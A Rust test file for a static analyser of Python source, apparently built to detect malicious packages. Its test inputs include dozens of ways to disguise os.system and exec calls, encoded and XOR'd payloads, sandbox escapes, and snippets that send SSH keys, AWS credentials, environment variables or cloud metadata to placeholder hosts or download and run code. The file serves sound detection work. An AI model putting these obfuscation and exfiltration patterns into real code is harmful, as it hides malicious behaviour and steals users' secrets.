//! Tests of what is read in Python source.

mod bounds;
mod flows;
mod reached;

use spip_core::{Deed, Odd, Taints, Trigger};

use crate::Limits;
use crate::module::{Module, Role, Source};

/// Reads a module that is imported.
fn read(source: &str) -> Module {
    read_as(source, Trigger::Import, Trigger::Call)
}

fn read_as(source: &str, trigger: Trigger, uncalled: Trigger) -> Module {
    let role = Role {
        module: Some("demo.module".to_owned()),
        is_package: false,
        trigger,
        uncalled,
    };
    let source = Source {
        path: "demo/module.py",
        bytes: source.as_bytes(),
        role,
        first_line: 1,
    };
    super::analyse(&source, &Limits::default())
}

/// One line per act: deed, callee, trigger, layers, a star where the name was disguised, taints.
fn acts(source: &str) -> Vec<String> {
    let module = read(source);
    let shown = module.acts.iter().map(|known| {
        let act = &known.act;
        let star = if act.disguised { "*" } else { "" };
        format!(
            "{:?} {}{star} {:?} {} [{}]",
            act.deed,
            act.callee,
            act.trigger,
            act.layers,
            act.taints.words()
        )
    });
    shown.collect()
}

/// Whether a module does something at import, whatever it is disguised as.
fn does(source: &str, deed: Deed, callee: &str) -> bool {
    let module = read(source);
    module.acts.iter().any(|known| {
        known.act.deed == deed && known.act.callee == callee && known.act.trigger == Trigger::Import
    })
}

#[test]
fn sees_through_every_way_to_name_a_function() {
    for source in [
        "import os\nos.system('id')",
        "import os as o\nx = o\nx.system('id')",
        "from os import system as s\ns('id')",
        "from os import *\nsystem('id')",
        "import os\ngetattr(os, 'sys' + 'tem')('id')",
        "import os\ngetattr(os, 'metsys'[::-1])('id')",
        "import os\ngetattr(os, ''.join(['s','y','s','t','e','m']))('id')",
        "import os\ngetattr(os, ''.join(map(chr, [115, 121, 115, 116, 101, 109])))('id')",
        "import os\ngetattr(os, ''.join(chr(c ^ 1) for c in [114, 120, 114, 117, 100, 108]))('id')",
        "import os\nvars(os)['system']('id')",
        "import os\nos.__dict__['sys%s' % 'tem']('id')",
        "import os\nos.__dict__.get('system')('id')",
        "__import__('os').system('id')",
        "__import__('so'[::-1]).system('id')",
        "m = __import__\nm('os').system('id')",
        "import importlib\nimportlib.import_module('o' + 's').system('id')",
        "import sys\nsys.modules['os'].system('id')",
        "globals()['__builtins__'].__import__('os').system('id')",
        "getattr(__builtins__, '__imp' + 'ort__')('os').system('id')",
        "__builtins__.__dict__['__import__']('os').system('id')",
        "import builtins\nbuiltins.__getattribute__('__import__')('os').system('id')",
        "import shutil\nshutil.os.system('id')",
        "import os\nf, g = os.system, print\nf('id')",
        "import os\nd = {'a': os.system}\nd['a']('id')",
        "import os\n[os.system][0]('id')",
        "import os\n(lambda f: f('id'))(os.system)",
        "import os\ndef call(f, *a): return f(*a)\ncall(os.system, 'id')",
        "import os\nclass A:\n    run = staticmethod(os.system)\nA.run('id')",
        "import os\nclass A:\n    def __init__(self): self.f = os.system\n    def go(self): self.f('id')\nA().go()",
        "import os, functools\nfunctools.partial(os.system, 'id')()",
        "import os, operator\noperator.methodcaller('system', 'id')(os)",
        "import os, operator\noperator.attrgetter('system')(os)('id')",
        "import os\nlist(map(os.system, ['id']))",
        "import os\nif (f := os.system): f('id')",
        "import posix\nposix.system('id')",
        "try:\n    import os\nexcept ImportError:\n    os = None\nos.system('id')",
        "import os\nfor f in (os.system,):\n    f('id')",
        "import os\nx = [f('id') for f in [os.system]]",
        "import os\nclass M(type):\n    def __new__(c, *a, **k):\n        os.system('id')\n        return type.__new__(c, *a)\nclass A(metaclass=M): pass",
        "import os\nclass A:\n    def __init_subclass__(cls): os.system('id')\nclass B(A): pass",
        "import os\nclass D:\n    def __set_name__(self, o, n): os.system('id')\nclass A:\n    d = D()",
        "import os\nclass A:\n    def __getattr__(self, n): os.system('id')\nA().anything",
        "import os\ndef f(x=os.system('id')): pass",
        "import os\n@os.system\ndef f(): pass",
        "import os\nx = f\"{os.system('id')}\"",
        "import os, threading\nthreading.Thread(target=os.system, args=('id',)).start()",
        "import os, threading\ndef w(): os.system('id')\nthreading.Thread(target=w).start()",
        "import os, atexit\natexit.register(lambda: os.system('id'))",
        "import os, threading\nclass T(threading.Thread):\n    def run(self): os.system('id')\nT().start()",
        "import os\nclass C:\n    def __enter__(self): os.system('id')\n    def __exit__(self, *a): pass\nwith C(): pass",
        "import os\nclass C:\n    def __add__(self, o): os.system('id')\nC() + 1",
        "import os\ndef __getattr__(name): os.system('id')",
        "print 'x'\nimport os\nos.system('id')",
        "for c in ().__class__.__base__.__subclasses__():\n    c.__init__.__globals__['system']('id')",
        "[c for c in object.__subclasses__()][0].__init__.__globals__['sys'].modules['os'].system('id')",
        "def f(): pass\nb = f.__globals__['__builtins__']\nb = b if type(b) is dict else b.__dict__\nb['__import__']('os').system('id')",
        "import inspect\ninspect.currentframe().f_back.f_builtins['__import__']('os').system('id')",
        "globals()['__builtins__']['__import__' if isinstance(__builtins__, dict) else 0]('os').system('id')",
        "x: __import__('os').system('id') = 1",
        "import os\ndef f(x: os.system('id')) -> int: pass",
        "@eval\n@(lambda f: \"__import__('os').system('id')\")\ndef f(): pass",
        "import os\nT = type('T', (type,), {'__init__': lambda c, *a: os.system('id')})\nT('X', (), {})",
        "import os\nclass A: pass\nsetattr(A, 'go', staticmethod(os.system))\nA.go('id')",
        "from string import Template\nexec(Template('${i} os; os.${f}(\"id\")').substitute(i='import', f='system'))",
        "import re\nexec(re.sub('X', '', 'iXmport os;os.sXystem(\"id\")'))",
        "t = bytearray(b'mioptro;soo.ssystem')\nt[0], t[1] = t[1], t[0]\nt = bytearray(b'import os;os.')\nt += b'system(1)'\nexec(bytes(t))",
    ] {
        assert!(does(source, Deed::Spawn, "os.system"), "{source}");
    }
}

#[test]
fn knows_methods_called_on_their_class() {
    let source =
        "import requests\ndef f(s, d): requests.Session.post(s, 'https://h.invalid', d)\nf(1, 2)";
    assert!(does(source, Deed::Send, "requests.Session().post"));
    let source = "import socket\ns = socket.socket()\ns.connect(('192.0.2.1', 1))\ns.sendall(b'x')";
    assert!(does(source, Deed::Send, "socket.socket().sendall"));
}

#[test]
fn what_is_undone_by_hand_counts_as_decoded() {
    for source in [
        "exec(bytes(b ^ 7 for b in [100, 101]))",
        "exec(bytes(b ^ 7 for b in open('data.bin', 'rb').read()))",
        "exec(bytes((b - 3) % 256 for b in open('data.bin', 'rb').read()))",
        "exec(''.join(chr(ord(c) - 1) for c in open('data.txt').read()))",
        "exec(open('data.txt').read()[::-1])",
        "exec('\\x70\\x72\\x69\\x6e\\x74\\x28\\x31\\x29')",
        "def rc4(k, d):\n    s, j, out = list(range(256)), 0, bytearray()\n    for i in range(256):\n        j = (j + s[i] + k[i % len(k)]) & 255\n        s[i], s[j] = s[j], s[i]\n    i = j = 0\n    for b in d:\n        i = (i + 1) & 255\n        j = (j + s[i]) & 255\n        s[i], s[j] = s[j], s[i]\n        out.append(b ^ s[(s[i] + s[j]) & 255])\n    return bytes(out)\nexec(rc4(b'key', b'data'))",
    ] {
        let known = acts(source);
        assert!(
            known
                .iter()
                .any(|act| act.starts_with("Execute") && act.contains("encoded data")),
            "{source}: {known:?}"
        );
    }
    assert!(!acts("exec('x = %d' % (1 + 2))")[0].contains("encoded"));
}

#[test]
fn looks_into_what_interpreters_are_given() {
    for source in [
        "import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', \"import os;os.remove('x')\"])",
        "import subprocess, sys\nsubprocess.run([sys.executable, '-'], input=b\"import os;os.remove('x')\")",
        "import subprocess\nsubprocess.Popen(['python3', '-'], stdin=-1).communicate(b\"import os;os.remove('x')\")",
        "import subprocess, sys, tempfile\nf = tempfile.NamedTemporaryFile(delete=False)\nf.write(b\"import os;os.remove('x')\")\nsubprocess.run(f'start {sys.executable} {f.name}')",
        "import subprocess, sys\nopen('/tmp/x.py', 'w').write(\"import os;os.remove('x')\")\nsubprocess.run([sys.executable, '/tmp/x.py'])",
        "import builtins\n{k.upper(): v for k, v in vars(builtins).items()}['EXEC'](\"import os;os.remove('x')\")",
        "locals().update({'go': eval})\ngo(\"__import__('os').remove('x')\")",
        "a, *b = ('os', 're', 'move')\ngetattr(__import__(a), ''.join(b))('x')",
    ] {
        assert!(does(source, Deed::Delete, "os.remove"), "{source}");
    }
}

#[test]
fn follows_one_of_several_files() {
    let source = "import os, platform, requests\nwhere, path = {'a': ('http://h.invalid/a', '/tmp/a.bin'), 'b': ('http://h.invalid/b', '/tmp/b.bin')}[platform.system()]\nopen(path, 'wb').write(requests.get(where).content)\nos.system(path)";
    let known = acts(source);
    assert!(
        known
            .iter()
            .any(|act| act.starts_with("Spawn") && act.contains("a download")),
        "{known:?}"
    );
}

#[test]
fn takes_encoded_code_apart() {
    for source in [
        "exec(__import__('base64').b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ=='))",
        "import base64 as b\nx = b.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ==')\ny = x.decode()\nexec(y)",
        "exec(bytes.fromhex('696d706f7274206f733b6f732e73797374656d282769642729'))",
        "exec('vzcbeg bf;bf.flfgrz(\"vq\")'.encode('rot13') if 0 else __import__('codecs').decode('vzcbeg bf;bf.flfgrz(\"vq\")', 'rot13'))",
        "exec(\")'di'(metsys.so;so tropmi\"[::-1])",
        "exec(''.join(chr(x) for x in [105,109,112,111,114,116,32,111,115,59,111,115,46,115,121,115,116,101,109,40,39,105,100,39,41]))",
        "c = [105,109,112,111,114,116,32,111,115,59,111,115,46,115,121,115,116,101,109,40,39,105,100,39,41]\ns = ''\nfor x in c:\n    s += chr(x)\nexec(s)",
        "def d(s, k):\n    r = ''\n    for i in range(len(s)):\n        r += chr(ord(s[i]) ^ k)\n    return r\nexec(d('hlqnsu!nr:nr/rxrudl)&he&(', 1))",
        "d = lambda s: ''.join(chr(ord(c) - 1) for c in s)\nexec(d('jnqpsu!pt<pt/tztufn)(je(*'))",
        "i = 0\ns = 'jnqpsu!pt<pt/tztufn)(je(*'\no = ''\nwhile i < len(s):\n    o += chr(ord(s[i]) - 1)\n    i += 1\nexec(o)",
        "exec(compile(bytes([105,109,112,111,114,116,32,111,115,59,111,115,46,115,121,115,116,101,109,40,39,105,100,39,41]), 'x', 'exec'))",
        "eval('__import__(\"o\" + \"s\").system(\"id\")')",
        "t = str.maketrans('abc', 'osy')\nexec('import ab;ab.bcbtem(\"id\")'.translate(t))",
        "exec('import {0}s;{0}s.system(\"id\")'.format('o'))",
    ] {
        assert!(does(source, Deed::Spawn, "os.system"), "{source}");
    }
}

#[test]
fn follows_data_to_where_it_goes() {
    let has = |source: &str, deed: Deed, taints: Taints| {
        let module = read(source);
        let found = module
            .acts
            .iter()
            .any(|known| known.act.deed == deed && known.act.taints.all(taints));
        assert!(found, "{source}\n{:#?}", acts(source));
    };
    has(
        "import os, requests\nrequests.post('https://x.invalid', json=dict(os.environ))",
        Deed::Send,
        Taints::ENVIRONMENT,
    );
    has(
        "import os, requests\nd = {k: v for k, v in os.environ.items()}\nrequests.post('https://x.invalid', data=str(d))",
        Deed::Send,
        Taints::ENVIRONMENT,
    );
    has(
        "import os, urllib.request as u, json\nd = json.dumps({'k': open(os.path.expanduser('~/.ssh/id_rsa')).read()})\nu.urlopen(u.Request('https://x.invalid', data=d.encode()))",
        Deed::Send,
        Taints::SECRET_FILE,
    );
    has(
        "from pathlib import Path\nimport httpx\np = Path.home() / '.aws' / 'credentials'\nhttpx.post('https://x.invalid', content=p.read_text())",
        Deed::Send,
        Taints::SECRET_FILE,
    );
    has(
        "import os, requests\nh = os.environ['HOME']\nout = {}\nfor n in ['.ssh/id_rsa', '.npmrc']:\n    with open(os.path.join(h, n)) as f:\n        out[n] = f.read()\nrequests.post('https://x.invalid', json=out)",
        Deed::Send,
        Taints::SECRET_FILE,
    );
    has(
        "import socket, getpass, requests\ndef info():\n    return {'h': socket.gethostname(), 'u': getpass.getuser()}\nrequests.get('https://x.invalid/?q=%s' % info())",
        Deed::Send,
        Taints::IDENTITY,
    );
    has(
        "import requests\nexec(requests.get('https://x.invalid').text)",
        Deed::Execute,
        Taints::DOWNLOADED,
    );
    has(
        "import urllib.request, subprocess\nurllib.request.urlretrieve('https://x.invalid/a', '/tmp/a.bin')\nsubprocess.Popen(['/tmp/a.bin'])",
        Deed::Spawn,
        Taints::DOWNLOADED.with(Taints::DROPPED),
    );
    has(
        "import requests, os, tempfile\np = os.path.join(tempfile.gettempdir(), 'x.exe')\nopen(p, 'wb').write(requests.get('https://x.invalid').content)\nos.startfile(p)",
        Deed::Spawn,
        Taints::DOWNLOADED,
    );
    has(
        "import marshal, base64\nexec(marshal.loads(base64.b64decode('4wAAAA==')))",
        Deed::Execute,
        Taints::UNMARSHALLED,
    );
    has(
        "import types, marshal\ntypes.FunctionType(marshal.loads(b'c'), globals())()",
        Deed::Execute,
        Taints::UNMARSHALLED,
    );
    has(
        "from cryptography.fernet import Fernet\nexec(Fernet(b'k').decrypt(b'gAAAA'))",
        Deed::Execute,
        Taints::DECRYPTED,
    );
    has(
        "import os\nd = open(os.path.join(os.path.dirname(__file__), 'x.dat'), 'rb').read()\nexec(bytes(b ^ 7 for b in d))",
        Deed::Execute,
        Taints::PACKAGE_DATA,
    );
    has(
        "import requests\nr = requests.get('http://169.254.169.254/latest/meta-data/')\nrequests.post('https://x.invalid', data=r.text)",
        Deed::Send,
        Taints::CLOUD_METADATA,
    );
}

#[test]
fn tells_when_code_runs() {
    let trigger = |source: &str| {
        let module = read(source);
        module
            .acts
            .iter()
            .filter(|known| known.act.deed == Deed::Spawn)
            .map(|known| known.act.trigger)
            .max()
    };
    assert_eq!(
        trigger("import os\ndef f(): os.system('id')"),
        Some(Trigger::Call)
    );
    assert_eq!(
        trigger("import os\ndef f(): os.system('id')\nf()"),
        Some(Trigger::Import)
    );
    assert_eq!(
        trigger("import os\nif __name__ == '__main__':\n    os.system('id')"),
        Some(Trigger::Call)
    );
    let build = read_as(
        "import os\nclass X:\n    def run(self): os.system('id')",
        Trigger::Build,
        Trigger::Build,
    );
    assert_eq!(build.acts[0].act.trigger, Trigger::Build);
}

#[test]
fn says_when_a_name_was_put_together() {
    let disguised = |source: &str| read(source).acts.iter().any(|known| known.act.disguised);
    assert!(disguised("getattr(__builtins__, 'ex' + 'ec')('1')"));
    assert!(disguised("__import__('subpro' + 'cess').run(['id'])"));
    assert!(disguised(
        "import base64\n__import__(base64.b64decode('b3M=').decode()).system('id')"
    ));
    assert!(!disguised("import os\ngetattr(os, 'system')('id')"));
    assert!(!disguised(
        "import importlib\nimportlib.import_module('demo.' + 'plugins').load()"
    ));
    assert!(!disguised("import os\nos.system('make ' + 'all')"));
}

#[test]
fn leaves_readable_templates_and_aligned_code_alone() {
    let script = "import subprocess\ndef f(place):\n    code = f'import os\\nprint(\"now going there\")\\nos.chdir({place!r})\\nos.system(\"true\")\\n'\n    exec(code)\n";
    let layers = read(script).acts.iter().map(|known| known.act.layers).max();
    assert_eq!(layers, Some(0));
    let joined =
        "import os\ndef f(x, y):\n    exec(f'{x}{y}')\n    exec('o' + 's.system(\"true\")')";
    let layers = read(joined).acts.iter().map(|known| known.act.layers).max();
    assert_eq!(layers, Some(1));
    let blanks = " ".repeat(120);
    let odd = |source: &str| read(source).oddities.len();
    let above = format!("x = f({}, (", "a".repeat(110));
    assert_eq!(odd(&format!("{above}\n{blanks}b))\n")), 0);
    assert_eq!(odd(&format!("x = f(\n{blanks}b)\n")), 1);
    let flag = "\u{1f3f4}\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}";
    assert_eq!(odd(&format!("FLAGS = ['{flag}', '{flag}']\n")), 0);
}

#[test]
fn a_wrapper_calls_nothing_when_it_is_made() {
    let source = "import functools, requests\n@functools.wraps(requests.post)\ndef wrapper(*args):\n    return args\n";
    assert!(!does(source, Deed::Send, "requests.post"));
}

#[test]
fn what_somebody_types_is_theirs() {
    let source = "import pyperclip, sys\npyperclip.copy(sys.argv[1])\n";
    let taints = read(source).acts[0].act.taints;
    assert!(taints.any(Taints::PARAMETER) && !taints.any(Taints::CLIPBOARD));
}

#[test]
fn reads_text_that_hides_from_its_reader() {
    let odd = |source: &str| {
        read(source)
            .oddities
            .iter()
            .map(|oddity| oddity.what)
            .collect::<Vec<_>>()
    };
    let blanks = " ".repeat(300);
    assert_eq!(odd(&format!("x = 1;{blanks}print(1)")), [Odd::OffScreen]);
    assert_eq!(
        odd(&format!("if True:\n{blanks}print(1)\n")),
        [Odd::OffScreen]
    );
    assert_eq!(odd(&format!("x = 1{blanks}# far away")), []);
    assert_eq!(odd("\u{1d4ee}\u{1d4fd}\u{1d4ec} = 1"), [Odd::Homoglyph]);
    assert_eq!(odd("# \u{202e} reversed\nx = 1"), [Odd::Bidi]);
    assert_eq!(odd("x = 1\n# a\rprint(1)\n"), [Odd::ControlCharacter]);
    assert_eq!(
        odd(&format!("x = '{}'", "\u{fe01}".repeat(40))),
        [Odd::ZeroWidth]
    );
    assert_eq!(
        odd("x = '\u{65e5}\u{672c}'  # \u{e9}t\u{e9}\ny = 1\r\nz = 2\r\n"),
        []
    );
}
